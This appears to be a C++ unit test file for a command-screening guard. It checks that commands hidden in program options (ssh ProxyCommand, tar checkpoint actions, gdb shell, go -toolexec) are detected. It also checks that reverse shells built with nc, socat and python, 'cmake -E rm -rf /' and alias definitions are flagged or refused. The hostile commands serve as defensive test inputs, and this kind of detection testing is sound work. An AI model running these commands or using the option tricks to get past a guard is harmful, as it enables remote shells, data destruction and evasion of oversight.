#include "guard/option_commands.h"

#include <gtest/gtest.h>

#include "guard/testing/look_through_dump.h"

namespace mecha::guard {
namespace {

using V = std::vector<std::string>;

// What a command runs by its options: scripts as "via: text", a refusal as "rule: reason".
V option_runs(const std::vector<std::string>& words) { return testing::look_through_dump(words); }

TEST(OptionCommands, ProgramsThatRunACommandByAnOption) {
  EXPECT_EQ(option_runs({"ssh", "-o", "ProxyCommand=nc %h %p", "h"}),
            V{"ssh -o ProxyCommand: nc %h %p"});
  EXPECT_EQ(option_runs({"ssh", "-oProxyCommand none", "h"}), V{});
  EXPECT_EQ(option_runs({"rsync", "-avze", "ssh -p 2", "a", "h:b"}), V{"rsync -e: ssh -p 2"});
  EXPECT_EQ(option_runs({"zip", "-TT", "unzip -t", "a.zip", "f"}), V{"zip -TT: unzip -t"});
  EXPECT_EQ(option_runs({"man", "-P", "cat", "ls"}), V{"man -P: cat"});
  EXPECT_EQ(option_runs({"tar", "-I", "zstd -19", "-cf", "a", "src"}), V{"tar -I: zstd -19"});
  EXPECT_EQ(option_runs({"tar", "-cf", "a", "--checkpoint-action=exec=id", "src"}),
            V{"tar --checkpoint-action: id"});
  EXPECT_EQ(option_runs({"gdb", "-batch", "-ex", "shell id", "-ex", "run"}), V{"gdb shell: id"});
  EXPECT_EQ(option_runs({"gdb", "--args", "./a.out", "x"}), V{"cmd gdb --args: ./a.out x"});
  EXPECT_EQ(option_runs({"vim", "-c", ":silent !make", "f"}), V{"vim -c: make"});
  EXPECT_EQ(option_runs({"vim", "-c", "wq!", "f"}), V{});
  EXPECT_EQ(option_runs({"less", "+!id", "f"}), V{"less +!: id"});
  EXPECT_EQ(option_runs({"awk", "{print $1 | \"sort -u\"}", "f"}), V{"awk system(): sort -u"});
  EXPECT_EQ(option_runs({"entr", "-s", "make && ./t"}), V{"entr -s: make && ./t"});
  EXPECT_EQ(option_runs({"go", "build", "-toolexec", "sh -c id", "."}),
            V{"go -toolexec: sh -c id"});
  EXPECT_EQ(option_runs({"go", "test", "-exec=xprog", "./..."}), V{"go -exec: xprog"});
  EXPECT_EQ(option_runs({"go", "build", "-o", "app"}), V{});
}

// cmake -E's tools are screened as the commands they stand for.
TEST(OptionCommands, CmakeToolsAreTheCommandsTheyStandFor) {
  EXPECT_EQ(option_runs({"cmake", "-E", "copy", "a", ".git/hooks/x"}),
            V{"cmd cmake -E copy: cp a .git/hooks/x"});
  EXPECT_EQ(option_runs({"cmake", "-E", "copy_directory", "src", "dst"}),
            V{"cmd cmake -E copy_directory: cp -r src/. dst"});
  EXPECT_EQ(option_runs({"cmake", "-E", "rm", "-rf", "/"}), V{"cmd cmake -E rm: rm -rf /"});
  EXPECT_EQ(option_runs({"cmake", "-E", "env", "A=1", "bash", "-c", "id"}),
            V{"cmd cmake -E env: env A=1 bash -c id"});
  EXPECT_EQ(option_runs({"cmake", "-E", "chdir", "/tmp", "rm", "x"}),
            V{"not-understood: `cmake -E chdir` runs a command in another directory, which the "
              "guard does not follow; use cd"});
  EXPECT_EQ(option_runs({"cmake", "--build", "build"}), V{});
}

TEST(OptionCommands, AnAliasDefinitionIsRefusedAndAListingIsNot) {
  EXPECT_EQ(option_runs({"alias", "r=rm -rf"}),
            V{"not-understood: `alias r` defines text that a later command name expands into, "
              "joined to that command's words; write the command out instead"});
  EXPECT_EQ(option_runs({"alias"}), V{});
  EXPECT_EQ(option_runs({"alias", "ll"}), V{});
}

TEST(OptionCommands, ShellsJoinedToTheNetworkAreReverseShells) {
  const std::string nc =
      "reverse-shell: `nc` runs a program for a network connection: whoever is at the other end "
      "runs commands the guard never sees";
  EXPECT_EQ(option_runs({"nc", "-e", "/bin/sh", "h", "1"}), V{nc});
  EXPECT_EQ(option_runs({"nc", "-l", "8080"}), V{});
  EXPECT_EQ(option_runs({"socat", "TCP:h:1", "EXEC:/bin/sh"}),
            V{"reverse-shell: `socat` joins a program to a network connection: whoever is at the "
              "other end runs commands the guard never sees"});
  EXPECT_EQ(option_runs({"python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('sh')"}),
            V{"reverse-shell: `python3` joins a shell to a network connection: whoever is at the "
              "other end runs commands the guard never sees"});
}

}  // namespace
}  // namespace mecha::guard
